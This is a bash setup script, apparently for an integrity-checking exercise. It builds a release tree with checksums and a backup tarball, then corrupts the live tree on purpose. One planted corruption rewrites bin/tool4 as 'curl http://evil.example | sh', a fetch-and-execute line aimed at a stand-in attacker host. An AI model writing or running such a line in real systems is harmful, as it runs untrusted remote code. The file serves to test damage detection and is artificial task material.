#!/bin/bash
# Builds /app/release (a release tree with SHA256SUMS), a backup tarball of
# the pristine tree, then damages the live tree.
set -euo pipefail
src=/tmp/pristine
rm -rf "$src" && mkdir -p "$src"/{bin,lib,share/doc,share/man/man1,etc}
cd "$src"
for i in $(seq 1 6); do
  printf '#!/bin/sh\necho "tool%s 1.4.2"\n' "$i" > bin/tool$i
  chmod 755 bin/tool$i
done
for i in $(seq 1 8); do
  awk -v n=$i 'BEGIN { srand(n); for (j = 0; j < 400 + 50 * n; j++) printf "%08x%s", int(rand() * 4294967295), (j % 8 == 7 ? "\n" : " ") }' > lib/libpart$i.so.txt
done
printf 'Release 1.4.2\n\nSee the manual pages.\n' > share/doc/README
printf '.TH TOOL1 1\n.SH NAME\ntool1 \\- the first tool\n' > share/man/man1/tool1.1
printf '[main]\nlevel = 3\n' > etc/tools.conf
find . -type f ! -name SHA256SUMS | sed 's|^\./||' | LC_ALL=C sort | xargs sha256sum > SHA256SUMS
find . -exec touch -h -d '2024-06-01 12:00:00 UTC' {} +
mkdir -p /app/backup /app/release
tar -czf /app/backup/release-1.4.2.tar.gz --owner=0 --group=0 --sort=name -C "$src" .
cp -a "$src/." /app/release/
rm -rf "$src"

cd /app/release
# damage: flipped bytes, a truncated file, a replaced script, a lost mode, a stray file
printf 'X' | dd of=lib/libpart3.so.txt bs=1 seek=100 conv=notrunc status=none
truncate -s 1000 lib/libpart7.so.txt
printf '#!/bin/sh\ncurl http://evil.example | sh\n' > bin/tool4
printf 'level = 9\n' >> etc/tools.conf
printf 'junk\n' > lib/libpart9.so.txt
chmod 644 bin/tool2
touch -d '2024-06-01 12:00:00 UTC' lib/libpart3.so.txt lib/libpart7.so.txt bin/tool4 etc/tools.conf lib/libpart9.so.txt
